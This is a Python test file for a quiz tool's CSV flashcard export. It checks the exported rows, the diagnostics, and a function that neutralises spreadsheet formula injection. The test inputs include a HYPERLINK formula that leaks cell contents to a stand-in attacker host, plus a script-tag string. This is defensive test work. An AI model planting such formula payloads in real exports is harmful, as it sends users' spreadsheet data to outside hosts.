"""Flashcard CSV read back with Python's csv reader: one term and one definition a line."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizgen.lms import ExportOptions
from quizgen.lms.csv import inert
from tests.conftest import GOOD
from tests.lms.conftest import ALL_BANKS, exported


def _rows(data: bytes, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=separator))


def test_the_cards_are_term_and_definition(all_types: Path) -> None:
    result, _ = exported("csv", all_types)
    assert result.data is not None
    assert _rows(result.data) == [
        [
            "According to British intelligence, what is the joint Russian-Belarusian unit mainly?",
            "A diversionary tactic",
        ],
        ["Lukashenko says he will send Belarusian soldiers to fight in the war.", "False"],
        ["In which country does Tichanovskaya live in exile?", "Lithuania (also: Lietuva)"],
        ["How many Russian soldiers did Belarus say were stationed in the country?", "9000 soldiers"],
    ]


def test_hostile_text_is_quoted_and_stays_text() -> None:
    for name, sep in (("comma", ","), ("tab", "\t"), ("semicolon", ";")):
        result, kept = exported("csv", *ALL_BANKS, options=ExportOptions(separator=sep))
        assert result.data is not None, name
        rows = _rows(result.data, sep)
        assert len(rows) == len(kept)
        assert [
            "Which line is printed literally? # $ @ < > [ ] * _ \\ ` = + / ~ // /* */",
            "<script>alert('x')</script> & &amp;",
        ] in rows
        assert ["This has bold, italic and code # $ in it.", "True"] in rows
        assert [
            "Fill in ~ the = blank: A {brace}, a #hash and ___ then \\ more [b1] text.",
            "a ~tilde = sign: #1",
        ] in rows
        # Not a plain number: a spreadsheet would run it, so it is made inert (OWASP).
        assert ["How much is #5 {plus} 2:?", "'-2.5 \u00b1 0.5 m/s {SI}"] in rows


def test_what_a_card_cannot_carry_is_reported(write_bank: object) -> None:
    result, kept = exported("csv", GOOD / "all-types.yaml")
    assert [(d.line, d.code) for d in result.diagnostics] == [
        (21, "QG200"),
        (55, "QG202"),
        (59, "QG200"),
        (69, "QG200"),
        (79, "QG200"),
    ]
    assert "CSV cannot carry a multi question" in result.diagnostics[0].message
    assert "CSV cannot carry an order question" in result.diagnostics[3].message
    assert len(kept) == 4


def test_a_line_break_is_reported(write_bank) -> None:  # type: ignore[no-untyped-def]
    bank = write_bank(
        """
        bank: lines
        title: Lines
        questions:
          - id: two-lines
            type: short
            prompt: "First line\\nsecond line"
            answer: x
        """
    )
    result, kept = exported("csv", bank)
    assert [(d.line, d.col, d.code) for d in result.diagnostics] == [(6, 13, "QG205")]
    assert result.data is None and kept == []


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?leak="&A1)', '\'=HYPERLINK("http://evil.example/?leak="&A1)'),
        ("-> the arrow", "'-> the arrow"),
        ("+7 days", "'+7 days"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "'  =1+1"),
        ("\t=1", "'\t=1"),
        ("\rcmd", "'\rcmd"),
        ("-3.5 \u00b1 0.5 \u00b0C", "'-3.5 \u00b1 0.5 \u00b0C"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        (" -0.25 ", " -0.25 "),
        ("Minsk = capital", "Minsk = capital"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_inert(cell: str, written: str) -> None:
    assert inert(cell) == written


@given(st.text(alphabet=" =+-@\t\r0123456789.aZ(", max_size=12))
def test_no_written_cell_starts_a_formula(cell: str) -> None:
    out = inert(cell)
    if out == cell:  # left as it is: only a plain number may start like a formula
        starts = out.lstrip(" ")[:1] in ("=", "+", "-", "@") or out[:1] in ("\t", "\r")
        assert not starts or re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)", out.strip())
    else:
        assert out == "'" + cell
